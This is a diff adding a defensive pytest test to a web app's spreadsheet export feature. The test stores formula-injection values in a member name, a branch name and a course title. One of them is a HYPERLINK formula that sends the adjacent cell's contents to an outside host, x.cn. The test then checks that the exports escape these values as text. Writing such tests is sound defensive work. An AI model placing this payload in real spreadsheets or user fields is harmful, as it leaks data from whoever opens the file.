@@ -195,3 +195,55 @@ def test_old_exports_are_deleted_with_their_files(people, org_tree, learning, se
     assert not old_file.exists()
     assert list(Export.objects.all()) == [recent]
     assert Path(Export.objects.get().file.path).exists()
+
+
+LINK = '=HYPERLINK("http://x.cn/?q="&B5,"点击查看")'  # a member "named" to leak the next cell
+
+
+def cells_of(response, sheet: int = 0) -> list[list]:
+    """The cells themselves (not only their values): their type says text or formula."""
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    return [list(row) for row in workbook.worksheets[sheet].iter_rows()]
+
+
+@pytest.mark.worker
+def test_names_typed_as_formulas_are_text_in_both_exports(
+    celery_worker, client, people, org_tree, learning
+):
+    profile = people["member_a1"].profile
+    profile.real_name = LINK
+    profile.save()
+    branch = org_tree["branch_a1"]
+    branch.name = "+第一党支部"
+    branch.save()
+    course = learning["history"]
+    course.title = "=党史学习教育"
+    course.save()
+    client.force_login(people["head_general_a"])
+    for kind in ("completion", "points"):
+        client.post(
+            reverse("dashboards:export_create", args=[org_tree["general_a"].pk]), {"kind": kind}
+        )
+
+    sheets = {}
+    for export in Export.objects.order_by("pk"):
+        export = wait_for(export.pk)
+        assert export.status == Export.Status.DONE, export.error
+        url = reverse("dashboards:export_download", args=[export.pk])
+        sheets[export.kind] = cells_of(client.get(url))
+        if export.kind == "completion":
+            sheets["summary"] = cells_of(client.get(url), 1)
+
+    for kind in ("completion", "points", "summary"):
+        formulas = [
+            cell.coordinate for row in sheets[kind] for cell in row if cell.data_type == "f"
+        ]
+        assert formulas == [], kind
+    for kind in ("completion", "points"):
+        member = next(row for row in sheets[kind] if row[0].value == "'" + LINK)
+        assert (member[0].data_type, member[0].value) == ("s", "'" + LINK)
+        assert member[2].value == "'+第一党支部"
+    headers = [cell.value for cell in sheets["completion"][2]]
+    assert any(header.startswith("'=党史学习教育") for header in headers)
+    courses = [row[0].value for row in sheets["summary"][3:]]
+    assert "'=党史学习教育" in courses
